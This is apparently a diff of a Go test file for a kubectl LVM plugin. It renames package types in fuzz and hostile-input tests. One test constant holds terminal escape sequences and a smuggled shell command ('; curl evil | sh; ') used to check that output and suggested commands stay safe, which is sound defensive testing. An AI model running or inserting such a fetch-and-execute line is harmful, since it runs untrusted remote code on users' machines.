@@ -13,12 +13,12 @@ import (
 
 	"github.com/nodelvm/nodelvm/cmd/kubectl-nodelvm/printable"
 	"github.com/nodelvm/nodelvm/cmd/kubectl-nodelvm/terminal"
-	"github.com/nodelvm/nodelvm/lvm/inventory"
-	"github.com/nodelvm/nodelvm/statuspage"
+	"github.com/nodelvm/nodelvm/lvm"
+	"github.com/nodelvm/nodelvm/report"
 )
 
 // everythingOf prints all tables, and doctor's output, of a cluster whose first node answers with this page.
-func everythingOf(page statuspage.Page) (text string, lines int, err error) {
+func everythingOf(page report.Node) (text string, lines int, err error) {
 	f := sound()
 	f.answers[0].page = page
 	rows := volumeRowsOf(f.volumes, usersOf(podsOfShop()), f.answers)
@@ -53,7 +53,7 @@ func FuzzPage(f *testing.F) {
 	f.Add([]byte(`{"node": "a\u001b[2J", "version": "\n", "unknown": ["\u001b]0;x\u0007"], "notReady": "1 found\nnothing is wrong",
 		"findings": [{"trouble": "x\u001b[31m", "group": "\r", "text": "\u202e"}], "volumes": [{"id": "x", "used": -1, "size": 0, "state": "\b"}]}`))
 	f.Fuzz(func(t *testing.T, text []byte) {
-		var page statuspage.Page
+		var page report.Node
 		if json.Unmarshal(text, &page) != nil {
 			return
 		}
@@ -75,7 +75,7 @@ func FuzzBytes(f *testing.F) {
 	f.Add(int64(1<<40), int64(1<<41))
 	f.Add(int64(-1), int64(0))
 	f.Fuzz(func(t *testing.T, used, size int64) {
-		if text := share(inventory.Bytes(used), inventory.Bytes(size)) + inventory.Bytes(size).String(); text == "" || printable.Text(text) != text {
+		if text := share(lvm.Bytes(used), lvm.Bytes(size)) + lvm.Bytes(size).String(); text == "" || printable.Text(text) != text {
 			t.Errorf("%d of %d is %q", used, size, text)
 		}
 	})
@@ -87,13 +87,13 @@ const hostile = "a\u009b2J\u202e\x1b]0;x\x07\n'; curl evil | sh; '"
 
 // TestHostilePage: no format prints control characters, and no command that the plugin suggests executes a name.
 func TestHostilePage(t *testing.T) {
-	page := soundPage("node-1", vg1, inventory.Volume{ID: vg1 + "/x", Group: hostile, LV: hostile, Claim: hostile, State: hostile, Layout: hostile})
+	page := soundPage("node-1", vg1, report.Volume{ID: vg1 + "/x", Group: hostile, LV: hostile, Claim: hostile, State: hostile, Layout: hostile})
 	g := &page.Groups[0]
 	g.Name, g.Tags, g.Problem, g.AutoActivation, g.LockHeldSeconds, g.Pools[0].Name, g.Pools[0].Zero = hostile, []string{hostile}, hostile, true, 600, hostile, false
-	page.Volumes[0].Pool, page.Checks.Kubelet.Path, page.Checks.Kubelet.Propagation = hostile, hostile, statuspage.PropagationSlave
+	page.Volumes[0].Pool, page.Checks.Kubelet.Path, page.Checks.Kubelet.Propagation = hostile, hostile, report.PropagationSlave
 	page.Classes[0].Offers[0].Group = hostile
-	page.Conditions = []statuspage.Condition{{Type: hostile, Group: hostile, Text: hostile}}
-	page.Comparison.Unreferenced = []statuspage.Unreferenced{{Reason: hostile, Group: hostile, LV: hostile, FormerClaim: hostile, Text: hostile}}
+	page.Conditions = []report.Condition{{Type: hostile, Group: hostile, Text: hostile}}
+	page.Comparison.Unreferenced = []report.Unreferenced{{Reason: hostile, Group: hostile, LV: hostile, FormerClaim: hostile, Text: hostile}}
 	text, err := json.Marshal(page)
 	if err != nil {
 		t.Fatal(err)
